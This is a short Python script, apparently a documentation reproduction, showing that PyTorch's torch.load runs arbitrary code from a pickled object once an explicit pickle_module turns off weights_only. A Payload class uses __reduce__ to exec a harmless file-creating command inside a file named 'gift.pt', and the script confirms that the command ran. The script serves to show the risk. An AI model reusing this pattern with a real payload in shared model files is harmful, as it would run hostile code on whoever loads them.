import pickle
from pathlib import Path

import torch


class Payload:
    def __reduce__(self):
        return exec, ("open('it_ran.txt', 'w').close()",)


torch.save({"note": Payload()}, "gift.pt")

# --8<-- [start:reproduce]
try:
    torch.load("gift.pt", pickle_module=pickle, weights_only=True)
except RuntimeError as error:
    message = str(error)
print(message)
#> Can not safely load weights when explicit pickle_module is specified

torch.load("gift.pt", pickle_module=pickle)  # 이때의 기본값은 False입니다.
print(Path("it_ran.txt").exists())
#> True
# --8<-- [end:reproduce]
assert Path("it_ran.txt").exists()
